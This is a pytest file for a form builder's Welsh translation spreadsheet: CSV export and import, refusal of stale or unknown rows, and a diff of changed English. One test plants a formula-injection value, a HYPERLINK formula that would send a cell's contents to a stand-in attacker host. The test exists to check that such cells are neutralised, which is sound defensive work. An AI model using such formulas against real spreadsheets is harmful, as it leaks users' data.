"""Welsh for translators: every string exported as a spreadsheet (CSV), filled in and imported
back as one change; rows whose English changed since are refused; the diff names the strings
whose English changed since they were translated."""

from __future__ import annotations

import csv
import io

import pytest
from checked import applied, blank, shipped

from builder.diff import english_changed
from builder.operations import Refused, edit_question, import_translations, set_welsh
from builder.translation_sheet import to_csv
from runtime.core.strings import resident_strings


def rows(sheet: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(sheet)))


def test_every_string_is_exported_with_its_welsh() -> None:
    definition = shipped("report-missed-bin")
    exported = rows(to_csv(definition))
    assert exported[0] == ["key", "english", "translation"]
    assert len(exported) - 1 == len(list(resident_strings(definition)))
    binout = next(row for row in exported if row[0] == "fields.binOut.label")
    assert binout == [
        "fields.binOut.label",
        "Was your bin out by 7am on your collection day?",
        "Oedd eich bin allan erbyn 7am ar eich diwrnod casglu?",
    ]
    start = next(row for row in exported if row[0] == "start.content")
    assert "\n" in start[1]  # Markdown keeps its lines, quoted


def test_a_filled_in_sheet_translates_the_whole_service_in_one_change() -> None:
    definition = set_welsh(blank(), welsh=True).apply(blank())
    sheet = rows(to_csv(definition))
    filled = io.StringIO()
    writer = csv.writer(filled)
    writer.writerow(sheet[0])
    for key, english, _ in sheet[1:]:
        writer.writerow([key, english, f"Cymraeg: {english}"])
    change = import_translations(definition, sheet="\ufeff" + filled.getvalue())
    after = applied(definition, change)
    assert change.description == f"Imported {len(sheet) - 1} Welsh translations from a spreadsheet"
    assert after["translations"]["cy"]["title"] == "Cymraeg: Request a replacement wheelie bin"


def test_rows_whose_english_changed_or_whose_key_is_unknown_are_refused() -> None:
    definition = shipped("report-missed-bin")
    sheet = to_csv(definition).replace("Which bins were missed?", "Which bin was missed?")
    sheet += "pages.nowhere.title,Nowhere,Unman\r\n"
    with pytest.raises(Refused) as refused:
        import_translations(definition, sheet=sheet)
    assert refused.value.dependents == (
        "Row 15: the English of fields.binTypes.label has changed since the spreadsheet was made",
        f"Row {len(rows(sheet))}: there is no string with the key pages.nowhere.title",
    )
    with pytest.raises(Refused):
        import_translations(definition, sheet="name,welsh\r\n")
    with pytest.raises(Refused):
        import_translations(blank(), sheet=to_csv(blank()))


def test_the_strings_whose_english_changed_since_they_were_translated() -> None:
    old = shipped("report-missed-bin")
    new = edit_question(
        old, page="bins", answer="/binTypes", hint="Tick every bin that was missed."
    ).apply(old)
    assert english_changed(old, new) == ["fields.binTypes.hint"]
    assert english_changed(old, old) == []


def test_words_a_spreadsheet_would_run_as_a_formula_are_exported_as_text_and_imported_back_unchanged() -> None:
    """A definition's words may be another council's (imported from a catalogue): a cell that
    starts like a formula is written with a quote before it, so the translator's spreadsheet
    shows it rather than runs it; the filled-in sheet imports as if the quote were not there."""
    definition = set_welsh(blank(), welsh=True).apply(blank())
    definition["title"] = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
    definition["summary"] = "'=1+1 is how a spreadsheet is told to show a sum as text"
    exported = rows(to_csv(definition))
    title = next(row for row in exported if row[0] == "title")
    assert title[1] == "'" + definition["title"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in exported for cell in row)
    for row in exported[1:]:
        row[2] = f"Cymraeg: {row[0]}"
    title[2] = "'-Teitl gyda llinell"  # a translation starting with a dash, quoted as the spreadsheet keeps it
    out = io.StringIO()
    csv.writer(out).writerows(exported)
    translated = applied(definition, import_translations(definition, sheet=out.getvalue()))
    assert translated["translations"]["cy"]["title"] == "-Teitl gyda llinell"
    assert translated["translations"]["cy"]["summary"] == "Cymraeg: summary"  # its English, quoted, matched
